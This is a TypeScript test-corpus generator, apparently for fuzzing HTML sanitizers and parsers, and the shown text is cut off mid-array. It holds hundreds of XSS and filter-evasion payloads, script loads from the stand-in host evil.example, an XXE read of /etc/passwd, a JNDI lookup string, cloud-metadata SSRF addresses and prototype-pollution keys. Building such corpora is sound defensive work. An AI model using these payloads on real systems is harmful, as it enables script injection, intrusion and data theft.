/** What a text is made to break out of. */
export type Target =
  | 'markup'
  | 'attribute'
  | 'address'
  | 'template'
  | 'mutation'
  | 'drawing'
  | 'style'
  | 'direction'
  | 'letters'
  | 'prototype'
  | 'control'
  | 'format';

/** A text that means something to a parser which must never see it as more than text. */
export interface HostileText {
  readonly target: Target;
  readonly text: string;
}

/** What a payload calls when it is executed; the page counts the calls. */
const RUN = 'executed()';
const EVIL = 'evil.example';

/** Every text of the corpus, no two the same. */
export function corpus(): readonly HostileText[] {
  const texts = Object.entries(TEXTS).flatMap(([target, make]) => make().map((text) => ({ target: target as Target, text })));
  return [...new Map(texts.map((one) => [one.text, one])).values()];
}

/**
 * Some texts of the corpus, chosen by a seed, the targets in turn: a few of them are already of every kind.
 * @param count all of them where it is not a number
 */
export function someOf(all: readonly HostileText[], count: number, seed: number): readonly HostileText[] {
  if (!(count < all.length)) return all;
  const next = randomFrom(seed);
  const shuffled = all.map((one) => ({ one, order: next() })).sort((a, b) => a.order - b.order);
  const turns = new Map<Target, number>();
  const inTurn = shuffled.map(({ one }) => {
    const turn = turns.get(one.target) ?? 0;
    turns.set(one.target, turn + 1);
    return { one, turn };
  });
  return inTurn
    .sort((a, b) => a.turn - b.turn)
    .slice(0, count)
    .map(({ one }) => one);
}

/** Numbers from 0 to 1 that are the same for the same seed (mulberry32). */
function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

const TEXTS: Readonly<Record<Target, () => readonly string[]>> = {
  markup,
  attribute,
  address,
  template,
  mutation,
  drawing,
  style,
  direction,
  letters,
  prototype,
  control,
  format,
};

/** Elements that execute, load or reconfigure, and ways to write a tag that filters miss and parsers take. */
function markup(): readonly string[] {
  const elements = [
    `<script>${RUN}</script>`,
    `<script src="//${EVIL}/a.js"></script>`,
    `<script type=module>import "//${EVIL}/m.js"</script>`,
    `<script type="importmap">{"imports":{"lit":"//${EVIL}/lit.js"}}</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["//${EVIL}/"]}]}</script>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<object data="//${EVIL}/a.swf" type="application/x-shockwave-flash"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<base href="//${EVIL}/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
    `<link rel=stylesheet href="//${EVIL}/a.css">`,
    `<link rel=preload as=script href="//${EVIL}/p.js">`,
    `<link rel=dns-prefetch href="//${EVIL}">`,
    `<form action="//${EVIL}/"><input type=submit autofocus></form>`,
    `<button form=x formaction="javascript:${RUN}">x</button>`,
    `<isindex action="javascript:${RUN}" type=image>`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `<contact-details src="//${EVIL}/api" contact-id=x></contact-details>`,
    `<portal src="//${EVIL}/"></portal>`,
    `<frameset onload=${RUN}><frame src="//${EVIL}/"></frameset>`,
    `<applet code="${RUN}"></applet>`,
    `<bgsound src="//${EVIL}/a.wav">`,
    `<slot name=header></slot>`,
    `<dialog open>Sign in again: <input name=password></dialog>`,
    `<div popover=manual id=menu>x</div>`,
    `<style>*{display:none!important}</style>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<plaintext>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap=#m src=x>`,
  ];
  // Each handler fires by itself on an element of its own, through a part of the platform of its own.
  const handlers = [
    ...[`img src=x onerror`, `img src=data:, onerror`, `image src=x onerror`, `audio src onerror`, `video src onerror`],
    ...[`video><source onerror`, `audio onloadstart src=x`, `body onload`, `body onpageshow`, `body onhashchange`],
    ...[`input autofocus onfocus`, `select autofocus onfocus`, `textarea autofocus onfocus`, `keygen autofocus onfocus`],
    ...[`details open ontoggle`, `button popovertarget=x onbeforetoggle`, `div popover onbeforetoggle`],
    ...[`div onpointerover`, `div onmouseenter`, `a tabindex=0 onfocusin`, `div contenteditable oninput`, `p oncopy`],
    ...[`div style=transition:all oncontextmenu`, `iframe src=about:blank onload`, `object data=about:blank onload`],
    ...[`embed src=about:blank onload`, `link rel=stylesheet href=data:, onload`, `style onload`, `script src=x onerror`],
    ...[`x onanimationstart`, `x ontransitionend`, `form onsubmit`, `input type=search onsearch`, `meter onmouseover`],
    ...[`x id=x tabindex=1 onactivate`, `div onscrollend`, `svg onload`, `math onclick`, `table background=x onload`],
  ].map((start) => `<${start}=${RUN}>`);
  const spellings = [
    `<IMG SRC=x OnErRoR=${RUN}>`,
    `<img/src=x/onerror=${RUN}//`,
    `<img\u000csrc=x\u000conerror=${RUN}>`,
    `<img\tsrc=x\nonerror=${RUN}\r>`,
    `<img src=x onerror\u000b=${RUN}>`,
    `<img src="x" onerror="executed&lpar;&rpar;">`,
    `<img src=x onerror=&#101;xecuted()>`,
    `<img src=x onerror=&#x65;xecuted&#x28;&#x29;>`,
    `<img src=x onerror=\\u0065xecuted()>`,
    `<img src=x onerror=executed\`\`>`,
    `<img src=x onerror=eval(atob("ZXhlY3V0ZWQoKQ=="))>`,
    `<img src=x onerror=[].constructor.constructor("${RUN}")()>`,
    `<img src=x onerror="window['exec'+'uted']()"`,
    `<<script>${RUN}//<</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/random>${RUN}</script\t>`,
    `<script>${RUN}<!-- </script>`,
    `<script\u0000>${RUN}</script>`,
    `<\u0000script>${RUN}</script>`,
    `<script >${RUN}</script\u2028>`,
    `\u003cimg src=x onerror=${RUN}\u003e`,
    `\\x3cimg src=x onerror=${RUN}\\x3e`,
    `\\u003cimg src=x onerror=${RUN}\\u003e`,
    `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `&#60;img src=x onerror=${RUN}&#62`,
    `&#x000003C;img src=x onerror=${RUN}>`,
    `\uff1cimg src=x onerror=${RUN}\uff1e`,
    `\u2039img src=x onerror=${RUN}\u203a`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    `<?php echo "<img src=x onerror=${RUN}>" ?>`,
    `<!--[if true]><script>${RUN}</script><![endif]-->`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!-- --!><img src=x onerror=${RUN}>`,
    `</bdi></dd></dl></div><img src=x onerror=${RUN}>`,
    `</button></form></dialog><script>${RUN}</script>`,
    `</template></shadow-root><img src=x onerror=${RUN}>`,
    `</textarea><img src=x onerror=${RUN}>`,
    `</title><img src=x onerror=${RUN}>`,
    `</option></select><img src=x onerror=${RUN}>`,
  ];
  return [...elements, ...handlers, ...spellings];
}

/** Texts that close an attribute, or that are one. */
function attribute(): readonly string[] {
  const closings = [
    `"`,
    `'`,
    '`',
    `">`,
    `'>`,
    `&quot;`,
    `&#34;`,
    `&#39;`,
    `\\"`,
    `\\'`,
    `\u2033`,
    `\uff02`,
    `\u00a0"`,
    `=`,
    `/>`,
  ];
  const handlers = closings.map((closing) => `${closing} autofocus onfocus=${RUN} x=`);
  const names = [
    `" .innerHTML="<img src=x onerror=${RUN}>`,
    `" ?hidden="true`,
    `" @click="${RUN}`,
    `" on-click="${RUN}`,
    `" v-html="'<img src=x onerror=${RUN}>'`,
    `" x-data x-init="${RUN}`,
    `" ng-init="constructor.constructor('${RUN}')()`,
    `" hx-get="//${EVIL}/" hx-trigger="load`,
    `" data-bind="click: ${RUN}`,
    `" is="contact-details`,
    `" slot="header`,
    `" part="panel`,
    `" class="dialog popup`,
    `" id="dialog-confirm`,
    `" style="position:fixed;inset:0`,
    `" style="background:url(//${EVIL}/s)`,
    `" srcset="//${EVIL}/2x 2x`,
    `" ping="//${EVIL}/ping`,
    `" target="_blank" rel="opener`,
    `" download="setup.exe`,
    `" formaction="javascript:${RUN}`,
    `" xlink:href="javascript:${RUN}`,
    `" aria-hidden="true`,
    `" role="alert`,
    `" tabindex="99999`,
    `" accesskey="x" onclick="${RUN}`,
    `" contenteditable="true`,
    `" nonce="r4nd0m`,
    `" sandbox="allow-scripts allow-same-origin`,
    `" popover popovertarget="dialog`,
    `" commandfor="dialog" command="show-modal`,
    `" lang="en" dir="rtl`,
    `onload=${RUN}`,
    `autofocus onfocus=${RUN}`,
    `x"y'z\`<>&`,
    `" "" ' '' \` \`\``,
    `\u0000" onfocus=${RUN}`,
    `tag-input" data-x="`,
    `url(#x)" clip-path="url(//${EVIL}/c.svg#c)`,
  ];
  return [...handlers, ...names];
}

/** Addresses: schemes that execute, ways to write them that a comparison of texts misses, and hosts that are not what they seem. */
export function address(): readonly string[] {
  const dangerous = [
    ...[`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `javascript://%0a${RUN}`, `javascript://https://example.com/%0a${RUN}`],
    ...[`javascript:void(${RUN})`, `javascript:'<script>parent.${RUN}</script>'`, `javascript:/*--></title>*/${RUN}`],
    ...[`vbscript:msgbox(1)`, `livescript:${RUN}`, `mocha:${RUN}`, `jscript:${RUN}`, `ecmascript:${RUN}`],
    ...[`data:text/html,<script>parent.${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgpPC9zY3JpcHQ+`],
    ...[`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `data:application/xhtml+xml,<x/>`],
    ...[
      `data:image/png,"><script>${RUN}</script>`,
      `DATA:IMAGE/SVG+XML;BASE64,PHN2Zy8+`,
      `data:image/svg+xml;image/png,<svg/>`,
    ],
    ...[
      `data:image/png;text/html,<script>${RUN}</script>`,
      `data:image/x-icon,x`,
      `data:image/pngx,x`,
      `data:,`,
      `data:;base64,`,
    ],
    ...[`blob:https://${EVIL}/0b1c`, `filesystem:https://${EVIL}/temporary/x`, `file:///etc/passwd`, `file://${EVIL}/share`],
    ...[
      `view-source:https://${EVIL}/`,
      `about:blank`,
      `about:srcdoc`,
      `chrome://settings`,
      `resource://gre/`,
      `moz-extension://x/`,
    ],
    ...[`intent://x#Intent;scheme=javascript;end`, `ms-msdt:/id PCWDiagnostic`, `search-ms:query=x&crumb=location:${EVIL}`],
    ...[`ws://${EVIL}/`, `wss://${EVIL}/`, `ftp://${EVIL}/`, `gopher://${EVIL}/`, `jar:https://${EVIL}/a.jar!/a.html`],
    ...[
      `feed:javascript:${RUN}`,
      `steam://run/1`,
      `slack://open`,
      `web+x:${RUN}`,
      `x-javascript:${RUN}`,
      `urn:javascript:${RUN}`,
    ],
    ...[`cid:x@${EVIL}`, `mid:x`, `news:x`, `ldap://${EVIL}/`, `magnet:?xt=x`, `facetime:x`, `skype:x?call`, `whatsapp://send`],
  ];
  // What a parser of addresses strips, skips or decodes, at every place where it does.
  const stripped = ['\t', '\n', '\r', '\r\n\t'];
  const inside = stripped.flatMap((one) => [`java${one}script:${RUN}`, `javascript${one}:${RUN}`, `${one}javascript:${RUN}`]);
  const leading = [
    '\u0000',
    '\u0001',
    '\u001f',
    ' ',
    '\u00a0',
    '\u2003',
    '\u2028',
    '\u3000',
    '\ufeff',
    '\u200b',
    '\u00ad',
    '\u202e',
  ];
  const led = leading.map((one) => `${one}javascript:${RUN}`);
  const spelled = [
    `&#106;avascript:${RUN}`,
    `&#x6A;avascript&colon;${RUN}`,
    `java&Tab;script:${RUN}`,
    `java&NewLine;script:${RUN}`,
    `%6aavascript:${RUN}`,
    `javascript%3A${RUN}`,
    `\\x6aavascript:${RUN}`,
    `\\u006aavascript:${RUN}`,
    `j\u0430vascript:${RUN}`,
    `\uff4aavascript:${RUN}`,
    `javascript\uff1a${RUN}`,
    `java\u0000script:${RUN}`,
    `java\u200bscript:${RUN}`,
    `java\u00adscript:${RUN}`,
    `"javascript:${RUN}"`,
    `<javascript:${RUN}>`,
    `URL=javascript:${RUN}`,
  ];
  const hosts = [
    `//${EVIL}/protocol-relative`,
    `///${EVIL}/`,
    `////${EVIL}/`,
    `\\\\${EVIL}\\share`,
    `/\\${EVIL}/`,
    `\\/${EVIL}/`,
    `https:${EVIL}/`,
    `https:/${EVIL}/`,
    `https:\\\\${EVIL}\\`,
    `https:///${EVIL}/`,
    `https://example.com@${EVIL}/`,
    `https://example.com:pass@${EVIL}/`,
    `https://example.com%40${EVIL}/`,
    `https://example.com\\@${EVIL}/`,
    `https://${EVIL}#@example.com/`,
    `https://${EVIL}?@example.com/`,
    `https://${EVIL}%2f.example.com/`,
    `https://exa\u00admple.com.${EVIL}/`,
    `https://ex\u0430mple.com/`,
    `https://\u202eexample.com/`,
    `https://xn--e1awd7f.${EVIL}/`,
    `https://[::1]/evil-path`,
    `https://[::ffff:127.0.0.1]/evil-path`,
    `https://0x7f.1/evil-path`,
    `https://2130706433/evil-path`,
    `https://127.1:22/evil-path`,
    `https://169.254.169.254/latest/meta-data/`,
    `https://${EVIL}:99999/`,
    `https://${EVIL}:/`,
    `https://${EVIL}\u3002com/`,
    `https://\u2488${EVIL}/`,
    `https://${EVIL}/x.png"onerror="${RUN}`,
    `https://${EVIL}/x.svg#<img src=x onerror=${RUN}>`,
    `https://${EVIL}/'-${RUN}-'`,
    `https://${EVIL}/a.png) url(//${EVIL}/b`,
    `https://${EVIL}/%0d%0aSet-Cookie:%20a=b`,
    `https://${EVIL}/\r\nHost: example.com`,
    `https://${EVIL}/\u0000.png`,
    `https://${'a'.repeat(300)}.${EVIL}/`,
    `https://${EVIL}/${'a'.repeat(5000)}`,
    `HTTPS://${EVIL}/UPPER`,
    `http://${EVIL}/plain.png`,
    `https://`,
    `https://.`,
    `https://%`,
    `http://[`,
    `://`,
    `/evil-path/logout`,
    `./evil-path`,
    `../../evil-path`,
    `?evil-path=logout`,
    `#" onload="${RUN}`,
  ];
  const others = [
    `mailto:a@${EVIL}?bcc=everybody@${EVIL}&body=%0d%0aX`,
    `mailto:?attach=/etc/passwd`,
    `mailto:"<script>${RUN}</script>"@${EVIL}`,
    `ana@${EVIL}?bcc=everybody@${EVIL}`,
    `ana@${EVIL}%0aBcc:everybody@${EVIL}`,
    `ana@${EVIL}\nBcc: everybody@${EVIL}`,
    `"javascript:${RUN}"@${EVIL}`,
    `javascript:${RUN}@${EVIL}`,
    `tel:*%2306%23`,
    `tel:+351912345678;ext=1;phone-context=${EVIL}`,
    `+351912345678;phone-context=//${EVIL}`,
    `*#06#`,
    `sms:+351912345678?body=javascript:${RUN}`,
    `+1900<img src=x onerror=${RUN}>`,
  ];
  return [...dangerous, ...inside, ...led, ...spelled, ...hosts, ...others];
}

/** Expressions of template languages, on the page and on servers. */
function template(): readonly string[] {
  const expressions = [RUN, `constructor.constructor("${RUN}")()`, `7*7`];
  const fences: readonly (readonly [string, string])[] = [
    ...([
      ['{{', '}}'],
      ['{{{', '}}}'],
      ['${', '}'],
      ['#{', '}'],
      ['<%=', '%>'],
      ['<%-', '%>'],
      ['{%', '%}'],
      ['[[', ']]'],
      ['@{', '}'],
      ['*{', '}'],
      ['@(', ')'],
      ['$(', ')'],
      ['`', '`'],
      ['<?=', '?>'],
      ['{!!', '!!}'],
      ['~{', '}'],
    ] as const),
  ];
  const fenced = fences.flatMap(([open, close]) => expressions.map((expression) => `${open}${expression}${close}`));
  const languages = [
    `{{_self.env.registerUndefinedFilterCallback("exec")}}`,
    `{{''.__class__.__mro__[1].__subclasses__()}}`,
    `{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}`,
    `{{$on.constructor('${RUN}')()}}`,
    `{{x={'y':''.constructor.prototype};x['y'].charAt=[].join}}`,
    `{{toString().constructor.prototype.charAt=[].join}}`,
    `{#if true}{@html "<img src=x onerror=${RUN}>"}{/if}`,
    `<#assign x="freemarker.template.utility.Execute"?new()>`,
    `#set($x="")$x.class.forName("java.lang.Runtime")`,
    `$\{jndi:ldap://${EVIL}/a}`,
    `\`);${RUN};(\``,
    `');${RUN};('`,
    `");${RUN};("`,
    `\\');${RUN};//`,
    `;${RUN};`,
    `*/${RUN}/*`,
    `\u2028${RUN}\u2029`,
    `</script><script>${RUN}</script>`,
    `?{lit$1}?`,
    `<!--?lit$123456789$-->`,
    `lit$0$`,
    `\${'$'}{html\`<img src=x onerror=${RUN}>\`}`,
    `{"_$litType$":1,"strings":["<img src=x onerror=${RUN}>"],"values":[]}`,
    `{"raw":["<img src=x onerror=${RUN}>"]}`,
    `{"__html":"<img src=x onerror=${RUN}>"}`,
    `{"$$typeof":"react.element","type":"script"}`,
    `[object Object]`,
  ];
  return [...fenced, ...languages];
}

/** Markup that is harmless once and is not when it is serialised and parsed again. */
function mutation(): readonly string[] {
  const fire = `<img src=x onerror=${RUN}>`;
  const rawTexts = ['noscript', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'script', 'plaintext'];
  const closed = rawTexts.map((name) => `<${name}><a title="</${name}>${fire}">`);
  const foreign = ['svg', 'math'].flatMap((root) =>
    rawTexts.slice(0, 6).map((name) => `<${root}><${name}><!--</${name}>${fire}-->`),
  );
  const points = ['mi', 'mo', 'mn', 'ms', 'mtext'].map((name) => `<math><${name}><table><mglyph><style><!--</style>${fire}`);
  const integration = ['foreignObject', 'desc', 'title'].map(
    (name) => `<svg><${name}><p></svg><style><a id="</style>${fire}">`,
  );
  const others = [
    `<form><math><mtext></form><form><mglyph><style></math>${fire}`,
    `<svg></p><style><a id="</style>${fire}">`,
    `<math><annotation-xml encoding="text/html"><svg><style>${fire}</style></svg></annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><xmp></math>${fire}`,
    `<table><td><svg><desc><td></desc></svg>${fire}`,
    `<select><option><style></option></select>${fire}</style>`,
    `<select><template><style><!--</style>${fire}--></template></select>`,
    `<p><select><svg><style>${fire}`,
    `<a><table><a href="javascript:${RUN}">x`,
    `<b><i></b><form><i>${fire}`,
    `<template><template></template>${fire}`,
    `<div><template shadowrootmode=closed><slot></slot></template>${fire}`,
    `<noscript><style></noscript>${fire}</style>`,
    `<a href="&#1;javascript:${RUN}">x</a>`,
    `<img alt="\`\`onerror=${RUN}" src=x>`,
    `<x/\`=\`${fire}`,
    `<svg><![CDATA[><image xlink:href="]]>${fire}//"></svg>`,
    `<svg><x><!--<x title="--></x>${fire}">`,
    `<br id="\u0000"${fire}`,
    `<p title="&lt;/p&gt;${fire}">`,
    `&lt;p title="</p>${fire}">`,
    `<!--<p title="-->${fire}">`,
    `<!--!>${fire}<!---->`,
    `<!->${fire}`,
    `<?${fire}?>`,
    `</ ${fire}>`,
    `<\u212aeygen autofocus onfocus=${RUN}>`,
    `<\u017fcript>${RUN}</\u017fcript>`,
    `<\u0131mg src=x onerror=${RUN}>`,
    `<i\u0307mg src=x onerror=${RUN}>`,
    `<svg\u00a0onload=${RUN}>`,
  ];
  return [...closed, ...foreign, ...points, ...integration, ...others];
}

/** SVG and MathML: scripts, handlers, animations of attributes, references. */
function drawing(): readonly string[] {
  const inSvg = [
    `<script>${RUN}</script>`,
    `<script href="data:text/javascript,${RUN}"/>`,
    `<script xlink:href="//${EVIL}/s.js"/>`,
    `<a xlink:href="javascript:${RUN}"><text y=9>x</text></a>`,
    `<a href="javascript:${RUN}"><rect width=99 height=99 /></a>`,
    `<a><animate attributeName=href values=javascript:${RUN} /><text y=9>x</text></a>`,
    `<a><set attributeName=xlink:href to=javascript:${RUN} /><text y=9>x</text></a>`,
    `<animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<animate onend=${RUN} attributeName=x dur=0.01s>`,
    `<set onbegin=${RUN} attributeName=x dur=1s>`,
    `<animateTransform onbegin=${RUN} attributeName=transform>`,
    `<animateMotion onrepeat=${RUN} dur=0.01s repeatCount=2>`,
    `<discard onbegin=${RUN}>`,
    `<use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${RUN}'/></svg>#x"/>`,
    `<use xlink:href="//${EVIL}/u.svg#u"/>`,
    `<image href=x onerror=${RUN} />`,
    `<image href="//${EVIL}/i.svg"/>`,
    `<feImage href="//${EVIL}/f.svg"/>`,
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${RUN}"/></foreignObject>`,
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>`,
    `<style>@import "//${EVIL}/s.css"</style>`,
    `<style>*{fill:url(//${EVIL}/f.svg#f)}</style>`,
    `<title><img src=x onerror=${RUN}></title>`,
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
    `<rect fill="url(//${EVIL}/p.svg#p)"/>`,
    `<filter id=f><feTurbulence baseFrequency=9 numOctaves=9999 /></filter>`,
    `<text font-family="x'onload=${RUN}">x</text>`,
    `<switch><foreignObject requiredExtensions="x"><script>${RUN}</script></foreignObject></switch>`,
    `<metadata><script>${RUN}</script></metadata>`,
    `<mpath xlink:href="javascript:${RUN}"/>`,
  ].map((inner) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`);
  const inMath = [
    `<a xlink:href="javascript:${RUN}">x</a>`,
    `<mi href="javascript:${RUN}">x</mi>`,
    `<maction actiontype="statusline#http://${EVIL}" xlink:href="javascript:${RUN}">x</maction>`,
    `<mglyph src="javascript:${RUN}"/>`,
    `<semantics><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></semantics>`,
    `<mtext><script>${RUN}</script></mtext>`,
    `<mspace width="99999px" onclick="${RUN}"/>`,
  ].map((inner) => `<math xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</math>`);
  const handlers = ['onload', 'onactivate', 'onfocusin', 'onrepeat', 'onzoom', 'onunload', 'onbegin'].map(
    (on) => `<svg ${on}=${RUN} tabindex=1>`,
  );
  return [...inSvg, ...inMath, ...handlers];
}

/** Values of CSS that load, cover, leak or leave their declaration, and selectors. */
function style(): readonly string[] {
  const values = [
    `url(//${EVIL}/u)`,
    `url("//${EVIL}/q")`,
    `u\\72l(//${EVIL}/e)`,
    `\\75 rl(//${EVIL}/e2)`,
    `image-set("//${EVIL}/i" 1x)`,
    `-webkit-image-set(url(//${EVIL}/w) 1x)`,
    `cross-fade(url(//${EVIL}/c), red)`,
    `image(//${EVIL}/m, red)`,
    `element(#dialog)`,
    `paint(evil)`,
    `src("//${EVIL}/s")`,
    `attr(data-field type(<url>))`,
    `var(--contact-details-accent, url(//${EVIL}/v))`,
    `env(safe-area-inset-top, url(//${EVIL}/v2))`,
    `expression(${RUN})`,
    `behavior:url(//${EVIL}/b.htc)`,
    `-moz-binding:url(//${EVIL}/x.xml#x)`,
    `progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//${EVIL}/a.png')`,
    `calc(1px*1e308*1e308)`,
    `linear-gradient(red, url(//${EVIL}/l))`,
    `if(style(--x: 1): url(//${EVIL}/if))`,
  ];
  const colors = [
    `red;background:url(//${EVIL}/r)`,
    `#fff;position:fixed;inset:0;z-index:2147483647`,
    `#fff}*{display:none`,
    `#fff} @import "//${EVIL}/i.css";{`,
    `#fff/**/;background-image:url(//${EVIL}/k)`,
    `#fff !important;content:url(//${EVIL}/n)`,
    `#ffffff" onclick="${RUN}`,
    `#ffffff\n;background:url(//${EVIL}/n)`,
    `#fffffff`,
    `#ggg`,
    `rgb(0 0 0 / url(//${EVIL}/a))`,
    `rgb(255,255,255);opacity:0`,
    `transparent`,
    `inherit`,
    `currentColor;opacity:0`,
    `color-mix(in srgb, red, url(//${EVIL}/x))`,
    `light-dark(red, url(//${EVIL}/d))`,
    `\\0;background:url(//${EVIL}/0)`,
  ];
  const sheets = [
    `</style><style>@import "//${EVIL}/s.css"</style>`,
    `@import url(//${EVIL}/i.css);`,
    `@font-face{font-family:x;src:url(//${EVIL}/f.woff)}`,
    `@namespace url(//${EVIL}/ns);`,
    `@charset "UTF-7";`,
    `@property --x {syntax:"<url>";inherits:true;initial-value:url(//${EVIL}/p)}`,
    `@layer x{*{display:none!important}}`,
    `@container (width>0){:host{display:none!important}}`,
    `:host{display:none!important}`,
    `:host-context(body){background:url(//${EVIL}/hc)}`,
    `::part(delete-button){opacity:0}`,
    `::slotted(*){display:none}`,
    `input[value^="a"]{background:url(//${EVIL}/a)}`,
    `*{animation:x 1s}@keyframes x{from{background:url(//${EVIL}/k)}}`,
    `<!-- *{display:none} -->`,
    `/*`,
    `*/`,
    `}}}}`,
    `{{{{`,
    `"`,
    `\\`,
  ];
  const selectors = [
    ...[
      `*`,
      `:root`,
      `"],*,[x="`,
      `'],*,[x='`,
      `#dialog-confirm`,
      `[part=delete-button]`,
      `x]:has(*)`,
      `:is(`,
      `::`,
      `,`,
      `>`,
      `+ *`,
    ],
    ...[`a, script`, `.popup`, `\\31 `, `1abc`, `-`, `--`, `:not(x)`, `\u0000`, `x y  z`, `"])${RUN}([`],
  ];
  return [...values, ...colors, ...sheets, ...selectors];
}

/** Characters that turn, hide or fence what stands around them. */
function direction(): readonly string[] {
  const controls = [
    '\u061c',
    '\u200e',
    '\u200f',
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
  ];
  const invisible = [
    '\u00ad',
    '\u034f',
    '\u115f',
    '\u180e',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u3164',
    '\ufeff',
    '\uffa0',
    '\u2800',
  ];
  return [
    ...controls.map((one) => `Ana ${one}dne eht ton si siht`),
    ...controls.map((one) => `${one.repeat(40)}deep`),
    ...invisible.map((one) => `A${one}n${one}a`),
    ...invisible.slice(0, 6).map((one) => `${one}${one}${one}x`),
    `invoice\u202efdp.exe`,
    `\u2066\u2066\u2066never closed`,
    `closed without being open\u2069\u2069\u2069`,
    `\u202eexecuted()\u202c <img src=x onerror=${RUN}>`,
    `אבג <b>Ana</b> دهه`,
    `حذف؟ Delete \u2067محمد\u2069 <script>${RUN}</script>`,
    `\u{e0041}\u{e006e}\u{e0061}\u{e007f}tagged`,
  ];
}

/** Letters that are not what they look like, pile up, are half, or are very many. */
function letters(): readonly string[] {
  const marks = ['\u0300', '\u0323', '\u0488', '\u20dd', '\u0e47', '\u064b', '\u0f71'];
  return [
    ...marks.map((mark) => `Z${mark.repeat(60)}algo`),
    `\u0300`,
    `\ud800`,
    `\udc00x`,
    `x\ud83d`,
    `\ud83d<img src=x onerror=${RUN}>`,
    `\ufffd\ufffe\uffff`,
    `\u{10ffff}`,
    `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}`,
    `\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}`,
    `\u{1f1e6}\u{1f1e6}\u{1f1e6}`,
    `ﷺ﷽`,
    `Ⅳ㍿㋿`,
    `ﬁ ß ẞ İ ı ſ K Å`,
    `\u0430dmin`,
    `ʼ՚＇‘’`,
    `＜script＞${RUN}＜/script＞`,
    `‹script›${RUN}‹/script›`,
    `\ud835\udd4erong`,
    `n\u0303 ñ`,
    `\uac00\u1100\u1161`,
    `\u0e01\u0e33\u0e01\u0e4d\u0e32`,
    `\u0600\u06dd1`,
    `जवाब क्ष्म्य`,
    'W'.repeat(3000),
    `${'<'.repeat(2000)}x`,
    `${'<b>'.repeat(400)}x`,
    `${'&amp;'.repeat(400)}x`,
    `${'"'.repeat(1000)}x`,
    `${'\\'.repeat(1000)}x`,
    `${'\u{1f600}'.repeat(500)}`,
    `${'a '.repeat(1000)}b`,
    `${'('.repeat(1000)}x`,
    `${'a@'.repeat(500)}b`,
    `${'1'.repeat(1000)}`,
    `${'+'.repeat(500)}1`,
  ];
}

/** Names that mean something on every object, function, element or array. */
function prototype(): readonly string[] {
  return [
    ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', 'toLocaleString', 'isPrototypeOf'],
    ...[
      'propertyIsEnumerable',
      '__defineGetter__',
      '__defineSetter__',
      '__lookupGetter__',
      'toJSON',
      'then',
      'catch',
      'length',
    ],
    ...[
      'name',
      'caller',
      'arguments',
      'apply',
      'call',
      'bind',
      'Symbol.iterator',
      'Symbol(Symbol.iterator)',
      '@@iterator',
      'next',
    ],
    ...[
      'innerHTML',
      'outerHTML',
      'textContent',
      'attributes',
      'style',
      'children',
      'parentNode',
      'ownerDocument',
      'shadowRoot',
    ],
    ...['elements', 'submit', 'action', 'method', 'reset', 'nodeName', 'dataset', 'className', 'id', 'onclick', 'onerror'],
    ...[
      'self',
      'top',
      'window',
      'document',
      'location',
      'globalThis',
      'eval',
      'undefined',
      'null',
      'NaN',
      'Infinity',
      '-Infinity',
    ],
    ...[
      'true',
      'false',
      '0',
      '-0',
      '-1',
      '4294967295',
      '4294967296',
      '9007199254740993',
      '1e999',
      '0x10',
      '0b1',
      '1_000',
      '.5',
      '5.',
    ],
    ...['__proto__.polluted', '__proto__[polluted]', 'constructor.prototype.polluted', 'constructor[prototype][polluted]'],
    ...[
      '{"__proto__":{"polluted":true}}',
